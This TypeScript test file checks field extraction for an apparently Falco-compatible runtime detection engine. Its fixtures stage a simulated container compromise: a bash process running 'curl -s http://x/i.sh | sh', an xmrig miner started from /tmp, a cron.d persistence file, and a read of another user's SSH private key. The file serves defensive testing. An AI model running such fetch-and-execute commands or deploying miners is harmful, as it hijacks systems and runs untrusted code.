import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { parse as parseYaml } from 'yaml';
import type { ProcessInfo, SyscallEvent } from '../src/events.js';
import { FieldRegistry, FieldResolveError } from '../src/fields/registry.js';
import { syscallFields } from '../src/fields/syscall.js';
import {
  errnoName, modeOctal, renderArg, renderChmodMode, renderMknodMode, renderOpenFlags, renderResult,
} from '../src/fields/flags.js';

const registry = new FieldRegistry([{ source: 'syscall', fields: syscallFields }]);

/** Extract a field written as in a rule, e.g. "proc.aname[2]" or "evt.arg.flags". */
function get(field: string, ev: SyscallEvent) {
  const m = /^([^[]+)(?:\[(.*)\])?$/.exec(field)!;
  return registry.resolve('syscall', m[1]!, m[2]).extract(ev);
}

const T0 = 1_700_000_000_123_456_789n;

/** containerd-shim → bash → sh → xmrig, in a Kubernetes pod. */
function minerExec(): SyscallEvent {
  const shim: ProcessInfo = { pid: 900, name: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', exepath: '/usr/bin/containerd-shim-runc-v2', args: ['-namespace', 'k8s.io'], start_ts: T0 - 86_400_000_000_000n };
  const bash: ProcessInfo = { pid: 4100, vpid: 1, ppid: 900, sid: 1, vpgid: 1, name: 'bash', exe: '/bin/bash', exepath: '/usr/bin/bash', args: ['-c', 'curl -s http://x/i.sh | sh'], parent: shim, start_ts: T0 - 60_000_000_000n };
  const sh: ProcessInfo = { pid: 4120, vpid: 7, ppid: 4100, sid: 1, vpgid: 7, name: 'sh', exe: 'sh', exepath: '/usr/bin/dash', args: [], parent: bash, start_ts: T0 - 5_000_000_000n };
  const xmrig: ProcessInfo = {
    pid: 4133, tid: 4133, vpid: 9, vtid: 9, ppid: 4120, sid: 1, vpgid: 7, name: 'xmrig', exe: './xmrig',
    exepath: '/tmp/.x/xmrig', args: ['-o', 'pool.minexmr.com:4444', '-u', '44AFFq5kSiGBoZ'], cwd: '/tmp/.x',
    env: ['HOME=/root', 'PATH=/usr/bin:/bin', 'HTTP_PROXY='], tty: 0, uid: 0, gid: 0, loginuid: 4294967295,
    user: 'root', group: 'root', homedir: '/root', shell: '/bin/bash', start_ts: T0 - 1_000_000n,
    exe_upper_layer: true, exe_from_memfd: false, exe_ino: 1234567, exe_ino_ctime: T0 - 3_000_000_000n,
    cap_effective: 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN', parent: sh,
  };
  return {
    source: 'syscall', type: 'execve', ts: T0, num: 42, hostname: 'node-7', res: 0,
    args: { filename: '/tmp/.x/xmrig' }, proc: xmrig,
    container: {
      id: '3ad7b26ded6d', full_id: '3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e',
      name: 'web', image: 'docker.io/library/nginx:1.25', image_repository: 'docker.io/library/nginx',
      image_tag: '1.25', type: 'containerd', privileged: false, start_ts: T0 - 120_000_000_000n,
      mounts: [
        { source: '/var/lib/kubelet/pods/abc/volumes/x', dest: '/data', mode: '', rw: true, propagation: 'rprivate' },
        { source: '/var/run/docker.sock', dest: '/var/run/docker.sock', mode: '', rw: true, propagation: 'rprivate' },
        { source: '/proc', dest: '/host/proc', mode: 'ro', rw: false, propagation: 'rprivate' },
      ],
    },
    k8s: { ns_name: 'shop', pod_name: 'web-7d9c', pod_uid: '3e41dc6b-08a8-44db-bc2a-3724b18ab19a', pod_labels: { app: 'web', 'io.kubernetes.pod.name': 'web-7d9c', tier: 'front' } },
  };
}

function hostEvent(extra: Partial<SyscallEvent> = {}): SyscallEvent {
  return { source: 'syscall', type: 'execve', ts: T0, proc: { pid: 1200, name: 'sshd' }, ...extra };
}

test('process fields from a realistic execve', () => {
  const ev = minerExec();
  assert.equal(get('proc.name', ev), 'xmrig');
  assert.equal(get('proc.exe', ev), './xmrig');
  assert.equal(get('proc.exepath', ev), '/tmp/.x/xmrig');
  assert.equal(get('proc.args', ev), '-o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ');
  assert.equal(get('proc.cmdline', ev), 'xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ');
  assert.equal(get('proc.exeline', ev), './xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ');
  assert.equal(get('proc.cmdnargs', ev), 4);
  assert.equal(get('proc.pname', ev), 'sh');
  assert.equal(get('proc.pcmdline', ev), 'sh', 'no arguments: the name alone, no trailing space');
  assert.equal(get('proc.pexepath', ev), '/usr/bin/dash');
  assert.equal(get('proc.ppid', ev), 4120);
  assert.equal(get('proc.pvpid', ev), 7);
  assert.equal(get('proc.cwd', ev), '/tmp/.x');
  assert.equal(get('proc.tty', ev), 0);
  assert.equal(get('proc.env', ev), 'HOME=/root PATH=/usr/bin:/bin HTTP_PROXY=');
  assert.equal(get('proc.env[HOME]', ev), '/root');
  assert.equal(get('proc.env[NOPE]', ev), '', 'an absent variable is empty, as in Falco');
  assert.equal(get('proc.sname', ev), 'bash', 'eldest ancestor with the same sid');
  assert.equal(get('proc.vpgid.name', ev), 'sh');
  assert.equal(get('proc.vpgid.exe', ev), 'sh');
  assert.equal(get('proc.is_vpgid_leader', ev), false);
  assert.equal(get('proc.is_vpgid_leader', { ...ev, proc: ev.proc.parent! }), true);
  assert.equal(get('proc.is_sid_leader', { ...ev, proc: ev.proc.parent!.parent! }), true);
  assert.equal(get('proc.loginshellid', ev), 4100, 'eldest shell in the chain');
  assert.equal(get('proc.duration', ev), 1_000_000n);
  assert.equal(get('proc.ppid.duration', ev), 5_000_000_000n);
  assert.equal(get('proc.pid.ts', ev), T0 - 1_000_000n);
  assert.equal(get('proc.is_exe_upper_layer', ev), true);
  assert.equal(get('proc.is_exe_from_memfd', ev), false);
  assert.equal(get('proc.exe_ino', ev), 1234567);
  assert.equal(get('proc.exe_ino.ctime_duration_proc_start', ev), 3_000_000_000n - 1_000_000n);
  assert.equal(get('thread.tid', ev), 4133);
  assert.equal(get('thread.vtid', ev), 9);
  assert.equal(get('thread.ismain', ev), true);
  assert.ok(String(get('thread.cap_effective', ev)).includes('CAP_SYS_ADMIN'));
  assert.equal(get('user.name', ev), 'root');
  assert.equal(get('user.uid', ev), 0);
  assert.equal(get('user.loginuid', ev), -1, 'unset loginuid (2^32-1) reads as -1');
  assert.equal(get('user.homedir', ev), '/root');
  assert.equal(get('group.name', ev), 'root');
});

test('proc.aname and friends: [0] is self, [1] the parent; no index = every ancestor', () => {
  const ev = minerExec();
  assert.equal(get('proc.aname[0]', ev), 'xmrig');
  assert.equal(get('proc.aname[1]', ev), 'sh');
  assert.equal(get('proc.aname[2]', ev), 'bash');
  assert.equal(get('proc.aname[3]', ev), 'containerd-shim');
  assert.equal(get('proc.aname[4]', ev), undefined, 'past the known ancestry');
  assert.equal(get('proc.aexepath[2]', ev), '/usr/bin/bash');
  assert.equal(get('proc.aexe[2]', ev), '/bin/bash');
  assert.equal(get('proc.apid[3]', ev), 900);
  assert.equal(get('proc.acmdline[3]', ev), 'containerd-shim -namespace k8s.io');
  const all = registry.resolve('syscall', 'proc.aname');
  assert.equal(all.anyOf, true);
  assert.deepEqual(all.extract(ev), ['sh', 'bash', 'containerd-shim']);
  assert.deepEqual(get('proc.apid', ev), [4120, 4100, 900]);
  assert.equal(registry.resolve('syscall', 'proc.aname', '2').anyOf, false);
  assert.throws(() => registry.resolve('syscall', 'proc.aname', 'x'), FieldResolveError);
  // A loop in the parent links must not hang the engine.
  const a: ProcessInfo = { pid: 1, name: 'a' };
  const b: ProcessInfo = { pid: 2, name: 'b', parent: a };
  a.parent = b;
  assert.deepEqual(get('proc.aname', hostEvent({ proc: a })), ['b']);
});

test('container and k8s fields; host processes are "host"', () => {
  const ev = minerExec();
  assert.equal(get('container.id', ev), '3ad7b26ded6d');
  assert.equal(get('container.name', ev), 'web');
  assert.equal(get('container.image', ev), 'docker.io/library/nginx:1.25');
  assert.equal(get('container.image.repository', ev), 'docker.io/library/nginx');
  assert.equal(get('container.image.tag', ev), '1.25');
  assert.equal(get('container.image.digest', ev), undefined);
  assert.equal(get('container.type', ev), 'containerd');
  assert.equal(get('container.privileged', ev), false);
  assert.equal(get('container.start_ts', ev), T0 - 120_000_000_000n);
  assert.equal(get('container.duration', ev), 120_000_000_000n);
  assert.equal(get('container.info', ev), 'container_id=3ad7b26ded6d container_name=web');
  assert.equal(
    get('container.mounts', ev),
    '/var/lib/kubelet/pods/abc/volumes/x:/data::true:rprivate,/var/run/docker.sock:/var/run/docker.sock::true:rprivate,/proc:/host/proc:ro:false:rprivate',
  );
  // The bracket holds a glob on the mount source (Falco's convention), or an index.
  assert.equal(get('container.mount.dest[/proc*]', ev), '/host/proc');
  assert.equal(get('container.mount.dest[/var/run/docker.sock]', ev), '/var/run/docker.sock');
  assert.equal(get('container.mount.dest[/etc]', ev), 'N/A', 'no such mount in a container: N/A, as Falco gives it');
  assert.equal(get('container.mount.dest[/root*]', ev), 'N/A');
  assert.equal(get('container.mount.dest[0]', ev), '/data');
  assert.equal(get('container.mount.source[/host/*]', ev), '/proc', 'mount.source is looked up by destination');
  assert.equal(get('container.mount.rdwr[/proc]', ev), 'false');
  assert.equal(get('k8s.ns.name', ev), 'shop');
  assert.equal(get('k8s.pod.name', ev), 'web-7d9c');
  assert.equal(get('k8s.pod.uid', ev), '3e41dc6b-08a8-44db-bc2a-3724b18ab19a');
  assert.equal(get('k8s.pod.label.app', ev), 'web');
  assert.equal(get('k8s.pod.label[tier]', ev), 'front');
  assert.equal(get('k8s.pod.labels', ev), 'app:web, tier:front', 'sorted, internal labels left out');

  const host = hostEvent();
  assert.equal(get('container.id', host), 'host');
  assert.equal(get('container.name', host), 'host');
  assert.equal(get('container.info', host), 'container_id=host container_name=host');
  assert.equal(get('container.image.repository', host), undefined);
  assert.equal(get('container.privileged', host), undefined);
  assert.equal(get('container.mount.dest[/proc*]', host), undefined);
  assert.equal(get('k8s.ns.name', host), undefined);
});

test('evt.* basics: type, dir, num, times, hostname', () => {
  const ev = minerExec();
  assert.equal(get('evt.type', ev), 'execve');
  assert.equal(get('syscall.type', ev), 'execve');
  assert.equal(get('evt.dir', ev), '<');
  assert.equal(get('evt.num', ev), 42);
  assert.equal(get('evt.rawtime', ev), T0);
  assert.equal(get('evt.rawtime.s', ev), 1_700_000_000n);
  assert.equal(get('evt.rawtime.ns', ev), 123_456_789n);
  assert.match(String(get('evt.time', ev)), /^\d\d:\d\d:\d\d\.123456789$/);
  assert.match(String(get('evt.datetime', ev)), /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.123456789$/);
  assert.equal(get('evt.time.iso8601', ev), '2023-11-14T22:13:20.123456789+0000');
  assert.equal(get('evt.hostname', ev), 'node-7');
  assert.equal(typeof get('evt.hostname', hostEvent()), 'string', 'falls back to this host');
  assert.equal(get('evt.source', ev), 'syscall');
  assert.equal(get('syscall.type', hostEvent({ type: 'container' })), undefined);
});

test('evt.res is SUCCESS or the errno name; evt.rawres the number', () => {
  const ev = (res?: number) => hostEvent({ type: 'connect', ...(res === undefined ? {} : { res }) });
  assert.equal(get('evt.res', ev(0)), 'SUCCESS');
  assert.equal(get('evt.res', ev(3)), 'SUCCESS');
  assert.equal(get('evt.res', ev(-2)), 'ENOENT');
  assert.equal(get('evt.res', ev(-13)), 'EACCES');
  assert.equal(get('evt.res', ev(-1)), 'EPERM');
  assert.equal(get('evt.res', ev(-115)), 'EINPROGRESS');
  assert.equal(get('evt.res', ev(-17)), 'EEXIST');
  assert.equal(get('evt.res', ev(-11)), 'EAGAIN');
  assert.equal(get('evt.res', ev(-111)), 'ECONNREFUSED');
  assert.equal(get('evt.res', ev(-512)), 'ERESTARTSYS');
  assert.equal(get('evt.res', ev(-9999)), '-9999', 'unknown errno: the number, as Falco prints it');
  assert.equal(get('evt.res', ev()), undefined);
  assert.equal(get('evt.rawres', ev(-115)), -115);
  assert.equal(get('evt.failed', ev(-115)), true);
  assert.equal(get('evt.failed', ev(0)), false);
  assert.equal(get('evt.arg.res', ev(-111)), 'ECONNREFUSED', 'evt.arg.res falls back to the result');
  assert.equal(errnoName(110), 'ETIMEDOUT');
  assert.equal(renderResult(-104), 'ECONNRESET');
});

test('open flags render in Falco style and drive evt.is_open_*', () => {
  assert.equal(renderOpenFlags(0), 'O_RDONLY');
  assert.equal(renderOpenFlags(0o1 | 0o100 | 0o1000), 'O_TRUNC|O_CREAT|O_WRONLY');
  assert.equal(renderOpenFlags(0o2000000), 'O_RDONLY|O_CLOEXEC');
  assert.equal(renderOpenFlags(0o2 | 0o2000 | 0o4000), 'O_NONBLOCK|O_APPEND|O_RDWR');
  assert.equal(renderOpenFlags(0o2 | 0o200 | 0o100 | 0o10000), 'O_EXCL|O_DSYNC|O_CREAT|O_RDWR');
  assert.equal(renderOpenFlags(0o20200000 | 0o2), 'O_DIRECTORY|O_RDWR|O_TMPFILE', 'O_TMPFILE includes O_DIRECTORY');
  assert.equal(renderOpenFlags(0o200000 | 0o400000 | 0o2000000), 'O_DIRECTORY|O_RDONLY|O_CLOEXEC|O_NOFOLLOW');
  assert.equal(renderOpenFlags(0o400 | 0o1), 'O_WRONLY|O_NOCTTY');

  const open = (flags: number | string, extra: Partial<SyscallEvent> = {}): SyscallEvent => hostEvent({
    type: 'openat', res: 3,
    args: { fd: 3, dirfd: -100, name: 'miner.json', flags, mode: 0o644 },
    fd: { num: 3, type: 'file', name: '/etc/xmrig/miner.json' },
    ...extra,
  });
  const wr = open(0o1 | 0o100 | 0o1000);
  assert.equal(get('evt.arg.flags', wr), 'O_TRUNC|O_CREAT|O_WRONLY');
  assert.equal(get('evt.arg[flags]', wr), 'O_TRUNC|O_CREAT|O_WRONLY');
  assert.equal(get('evt.arg.mode', wr), '0644', 'open prints its mode in octal');
  assert.equal(get('evt.rawarg.flags', wr), 577);
  assert.equal(get('evt.arg[0]', wr), '<f>/etc/xmrig/miner.json', 'by position (0-based); an fd shows its name');
  assert.equal(get('evt.arg[2]', wr), 'miner.json');
  assert.equal(get('evt.arg[9]', wr), undefined);
  assert.equal(get('evt.args', wr), 'fd=3(<f>/etc/xmrig/miner.json) dirfd=-100(AT_FDCWD) name=miner.json flags=577(O_TRUNC|O_CREAT|O_WRONLY) mode=0644');
  assert.equal(get('evt.is_open_write', wr), true);
  assert.equal(get('evt.is_open_read', wr), false);
  assert.equal(get('evt.is_open_exec', wr), false);
  const rd = open(0o2000000);
  assert.equal(get('evt.is_open_read', rd), true);
  assert.equal(get('evt.is_open_write', rd), false);
  const rw = open(0o2);
  assert.equal(get('evt.is_open_read', rw), true);
  assert.equal(get('evt.is_open_write', rw), true);
  // A source that already renders: passed through unchanged, and still understood.
  const txt = open('O_WRONLY|O_CREAT');
  assert.equal(get('evt.arg.flags', txt), 'O_WRONLY|O_CREAT');
  assert.equal(get('evt.is_open_write', txt), true);
  // Created with an execute bit: drift.
  assert.equal(get('evt.is_open_exec', open(0o1 | 0o100, { args: { name: '/tmp/x', flags: 0o101, mode: 0o755 } })), true);
  assert.equal(get('evt.is_open_exec', hostEvent({ type: 'creat', args: { path: '/tmp/x', mode: 0o700 } })), true);
  // Not an open at all.
  assert.equal(get('evt.is_open_read', hostEvent({ type: 'read', args: { flags: 0 } })), false);
  assert.equal(get('evt.arg.flags', hostEvent({ type: 'unlinkat', args: { flags: 512 } })), 'AT_REMOVEDIR', "unlinkat's flags by its own table, not open's");
  assert.equal(get('evt.arg.flags', hostEvent({ type: 'fcntl', args: { flags: 512 } })), '512', 'no names for an event libs has no table for here');
});

test('chmod modes, socket domains, ptrace requests and bpf commands render as names', () => {
  assert.equal(renderChmodMode(0o4755), 'S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID');
  assert.equal(renderChmodMode(0), '');
  assert.equal(modeOctal(0o755), '0755');
  assert.equal(modeOctal(0), '0');
  assert.equal(renderMknodMode(0o10644), 'S_IROTH|S_IRGRP|S_IWUSR|S_IRUSR|S_IFIFO');
  assert.deepEqual(renderArg('fchmodat', 'mode', 0), { raw: '0' });

  const chmod = hostEvent({ type: 'fchmodat', res: 0, args: { dirfd: -100, filename: '/tmp/.x/xmrig', mode: 0o6755 } });
  const mode = String(get('evt.arg.mode', chmod));
  assert.ok(mode.includes('S_ISUID') && mode.includes('S_ISGID') && mode.includes('S_IXUSR'));
  assert.equal(get('evt.arg.filename', chmod), '/tmp/.x/xmrig');
  assert.equal(get('evt.arg.mode', hostEvent({ type: 'chmod', args: { mode: 'S_IRUSR|S_ISUID' } })), 'S_IRUSR|S_ISUID');

  assert.equal(get('evt.arg.domain', hostEvent({ type: 'socket', args: { domain: 17, type: 3, proto: 768 } })), 'AF_PACKET');
  assert.equal(get('evt.arg.domain', hostEvent({ type: 'socket', args: { domain: 1 } })), 'AF_LOCAL|AF_UNIX');
  assert.equal(get('evt.arg.request', hostEvent({ type: 'ptrace', args: { request: 16, pid: 1 } })), 'PTRACE_ATTACH');
  assert.equal(get('evt.arg.request', hostEvent({ type: 'ptrace', args: { request: 0x4206 } })), 'PTRACE_SEIZE');
  assert.equal(get('evt.arg.cmd', hostEvent({ type: 'bpf', args: { cmd: 5 } })), 'BPF_PROG_LOAD');
  // A uid argument shows the user's name when it is the caller's own.
  const setuid = hostEvent({ type: 'setuid', args: { uid: 33 }, proc: { pid: 5, name: 'php-fpm', uid: 33, user: 'www-data' } });
  assert.equal(get('evt.arg.uid', setuid), 'www-data');
  assert.equal(get('evt.arg.uid', { ...setuid, args: { uid: 0 } }), '0');
});

test('a failed open has no fd, yet fd.num is -1 and fd.name names the file (open_error)', () => {
  const ev = hostEvent({
    type: 'openat', res: -2, proc: { pid: 77, name: 'cat', cwd: '/home/bob' },
    args: { fd: -2, dirfd: -100, name: '../alice/.ssh/id_rsa', flags: 0 },
  });
  assert.equal(get('fd.num', ev), -1);
  assert.equal(get('fd.typechar', ev), 'f');
  assert.equal(get('evt.res', ev), 'ENOENT');
  assert.equal(get('fd.name', ev), '/home/alice/.ssh/id_rsa');
  assert.equal(get('fd.nameraw', ev), '../alice/.ssh/id_rsa');
  assert.equal(get('fd.directory', ev), '/home/alice/.ssh');
  assert.equal(get('fd.filename', ev), 'id_rsa');
  assert.equal(get('fd.type', ev), undefined, 'no fd, no type');
  // Success: fd.num is the new fd.
  assert.equal(get('fd.num', { ...ev, res: 5 }), 5);
});

test('file fds: directory, filename, typechar', () => {
  const ev = hostEvent({ type: 'openat', res: 4, args: { flags: 0o1 }, fd: { num: 4, type: 'file', name: '/etc/cron.d/miner' } });
  assert.equal(get('fd.typechar', ev), 'f');
  assert.equal(get('fd.directory', ev), '/etc/cron.d');
  assert.equal(get('fd.filename', ev), 'miner');
  assert.equal(get('fd.name_changed', ev), false);
  assert.equal(get('fd.containername', ev), 'host:/etc/cron.d/miner');
  const root = hostEvent({ fd: { num: 4, type: 'file', name: '/vmlinuz' } });
  assert.equal(get('fd.directory', root), '/');
  const dir = hostEvent({ type: 'openat', fd: { num: 5, type: 'directory', name: '/etc/cron.d' } });
  assert.equal(get('fd.typechar', dir), 'd');
  assert.equal(get('fd.directory', dir), '/etc/cron.d');
  assert.equal(get('fd.filename', dir), undefined);
  assert.deepEqual(get('fd.types', dir), ['directory']);
  assert.deepEqual(get('fd.types[5]', dir), ['directory']);
  assert.equal(get('fd.types[0]', dir), undefined);
  assert.equal(get('fd.typechar', hostEvent({ type: 'memfd_create', fd: { num: 3, type: 'memfd', name: 'memfd:x' } })), 'm');
});

test('socket fds: client/server, local/remote by is_server, ipnet and name fields', () => {
  const connect = hostEvent({
    type: 'connect', res: -115,
    fd: { num: 7, type: 'ipv4', l4proto: 'tcp', cip: '10.1.2.3', cport: 51234, sip: '45.9.148.21', sport: 3333, sip_name: 'pool.example.net' },
  });
  assert.equal(get('fd.name', connect), '10.1.2.3:51234->45.9.148.21:3333', 'derived when the source left it out');
  assert.equal(get('fd.typechar', connect), '4');
  assert.equal(get('fd.sockfamily', connect), 'ip');
  assert.equal(get('fd.l4proto', connect), 'tcp');
  assert.equal(get('fd.cip', connect), '10.1.2.3');
  assert.equal(get('fd.sip', connect), '45.9.148.21');
  assert.equal(get('fd.lip', connect), '10.1.2.3', 'a connecting process is the client: local = client');
  assert.equal(get('fd.rip', connect), '45.9.148.21');
  assert.equal(get('fd.lport', connect), 51234);
  assert.equal(get('fd.rport', connect), 3333);
  assert.equal(get('fd.sport', connect), 3333);
  assert.equal(get('fd.is_server', connect), false);
  assert.equal(get('fd.sip.name', connect), 'pool.example.net');
  assert.equal(get('fd.rip.name', connect), 'pool.example.net');
  assert.equal(get('fd.lip.name', connect), undefined);
  assert.equal(get('evt.res', connect), 'EINPROGRESS');
  // fd.ip / fd.port / fd.net match either end: any-of lists.
  const ip = registry.resolve('syscall', 'fd.ip');
  assert.equal(ip.anyOf, true);
  assert.equal(ip.def.type, 'ipaddr');
  assert.deepEqual(ip.extract(connect), ['10.1.2.3', '45.9.148.21']);
  assert.deepEqual(get('fd.port', connect), [51234, 3333]);
  const net = registry.resolve('syscall', 'fd.net');
  assert.equal(net.def.type, 'ipnet');
  assert.deepEqual(net.extract(connect), ['10.1.2.3', '45.9.148.21']);
  assert.equal(registry.resolve('syscall', 'fd.snet').def.type, 'ipnet');
  assert.equal(get('fd.snet', connect), '45.9.148.21');
  assert.equal(get('fd.rnet', connect), '45.9.148.21');
  assert.equal(get('fd.lnet', connect), '10.1.2.3');

  const accept = hostEvent({
    type: 'accept4', res: 8,
    fd: { num: 8, type: 'ipv6', l4proto: 'tcp', cip: '2001:db8::7', cport: 40000, sip: '2001:db8::1', sport: 22, is_server: true, cip_name: 'attacker.example' },
  });
  assert.equal(get('fd.typechar', accept), '6');
  assert.equal(get('fd.lip', accept), '2001:db8::1', 'the server side: local = server');
  assert.equal(get('fd.rip', accept), '2001:db8::7');
  assert.equal(get('fd.lport', accept), 22);
  assert.equal(get('fd.rport', accept), 40000);
  assert.equal(get('fd.rip.name', accept), 'attacker.example');
  assert.equal(get('fd.is_server', accept), true);
  // Falco's ipv6 tuple has no brackets.
  assert.equal(get('fd.name', accept), '2001:db8::7:40000->2001:db8::1:22');
  // An accept with no is_server flag is still the server side.
  assert.equal(get('fd.lport', { ...accept, fd: { ...accept.fd!, is_server: undefined } }), 22);

  const unix = hostEvent({ type: 'connect', fd: { num: 3, type: 'unix', name: '/run/docker.sock' } });
  assert.equal(get('fd.typechar', unix), 'u');
  assert.equal(get('fd.sockfamily', unix), 'unix');
  assert.equal(get('fd.sip', unix), undefined);
  assert.equal(get('fd.ip', unix), undefined);
});

test('missing data is undefined, never an exception', () => {
  const bare = hostEvent();
  for (const f of ['proc.pname', 'proc.pcmdline', 'proc.aname[1]', 'proc.exepath', 'proc.args', 'proc.tty', 'proc.env', 'proc.env[HOME]',
    'proc.duration', 'proc.sname', 'user.name', 'user.loginuid', 'fd.name', 'fd.num', 'fd.typechar', 'fd.cip', 'fd.directory',
    'evt.res', 'evt.args', 'evt.arg.flags', 'evt.buffer', 'k8s.pod.name', 'thread.cap_permitted', 'proc.is_exe_upper_layer']) {
    assert.equal(get(f, bare), undefined, f);
  }
  assert.deepEqual(get('proc.aname', bare), [], 'no ancestors: nothing to match');
  // Keys from rules or data never reach Object.prototype.
  const ev = minerExec();
  assert.equal(get('evt.arg.constructor', ev), undefined);
  assert.equal(get('k8s.pod.label[toString]', ev), undefined);
  assert.equal(get('fd.typechar', hostEvent({ type: 'constructor' })), undefined);
  assert.equal(get('fd.num', hostEvent({ type: 'hasOwnProperty', res: 3 })), undefined);
  assert.equal(get('proc.cmdline', bare), 'sshd');

  // Every field, bound with a typical argument, on broken events: no exception escapes.
  const broken = [
    bare,
    { source: 'syscall', type: 'openat', ts: T0 } as unknown as SyscallEvent,
    hostEvent({ args: { flags: null, mode: null } as unknown as Record<string, number> }),
    hostEvent({ fd: {} }),
    hostEvent({ container: { id: '' } }),
  ];
  const sampleArg: Record<string, string> = { 'evt.arg': 'flags', 'evt.rawarg': 'flags', 'proc.env': 'HOME', 'container.label': 'a', 'k8s.pod.label': 'app' };
  for (const def of syscallFields) {
    const args = def.arg === 'index' ? [undefined, '1'] : def.arg === 'key' ? [sampleArg[def.name] ?? '/proc*'] : [undefined];
    for (const a of args) {
      const extract = def.bind(def.argOptional || def.arg === 'none' ? a : (a ?? '0'));
      for (const ev of broken) assert.doesNotThrow(() => extract(ev), `${def.name}[${a}]`);
    }
  }
});

test('the catalog is well formed', () => {
  const names = syscallFields.map((f) => f.name);
  assert.equal(new Set(names).size, names.length, 'no duplicate names');
  for (const f of syscallFields) {
    assert.match(f.name, /^(evt|syscall|proc|thread|user|group|fd|fs|container|k8s)\.[a-z0-9_.]+$/, f.name);
    assert.ok(f.desc.length > 10, `${f.name} has a description`);
  }
  assert.ok(syscallFields.length >= 150, `catalog size ${syscallFields.length}`);
});

// ---------------------------------------------------------------------------------------------
// Coverage: every field the Falco rules files name must resolve.

const CORPUS = new URL('../../../shared/corpus/falco/', import.meta.url);
const CORPUS_FILES = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'];
/** Falco's syscall field classes: a token starting with one of these in a condition is a field. */
const CLASSES = '(?:evt|syscall|proc|thread|user|group|fd|fdlist|fs|container|k8s)';
const CONDITION_FIELD = new RegExp(`(?<![\\w./%$-])${CLASSES}\\.[A-Za-z0-9_.]*[A-Za-z0-9_](?:\\[[^\\]]*\\])?`, 'g');
const OUTPUT_FIELD = /%([A-Za-z][A-Za-z0-9_.]*[A-Za-z0-9_](?:\[[^\]]*\])?)/g;

function fieldsInCorpus(): Set<string> {
  const found = new Set<string>();
  for (const file of CORPUS_FILES) {
    const items = parseYaml(readFileSync(new URL(file, CORPUS), 'utf8')) as Array<Record<string, unknown>>;
    for (const item of items) {
      if (typeof item.condition === 'string') {
        // Quoted strings are values, not fields.
        const cond = item.condition.replace(/"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'/g, ' ');
        for (const m of cond.matchAll(CONDITION_FIELD)) found.add(m[0]);
      }
      if (typeof item.output === 'string') for (const m of item.output.matchAll(OUTPUT_FIELD)) found.add(m[1]!);
      for (const ex of (item.exceptions ?? []) as Array<{ fields?: string | string[] }>) {
        for (const f of [ex.fields ?? []].flat()) found.add(f);
      }
    }
  }
  return found;
}

test('every field used by the Falco default rules resolves', () => {
  const fields = fieldsInCorpus();
  assert.ok(fields.size > 100, `scanned ${fields.size} distinct field references`);
  for (const must of ['proc.aname[2]', 'evt.arg.flags', 'container.mount.dest[/proc*]', 'fd.sip.name', 'proc.exe_ino.ctime_duration_proc_start', 'evt.buffer']) {
    assert.ok(fields.has(must), `scan sees ${must}`);
  }
  const unknown: string[] = [];
  for (const text of fields) {
    const m = /^([^[]+)(?:\[(.*)\])?$/.exec(text)!;
    try {
      registry.resolve('syscall', m[1]!, m[2]);
    } catch (e) {
      unknown.push(`${text}: ${(e as Error).message}`);
    }
  }
  assert.deepEqual(unknown, []);
});
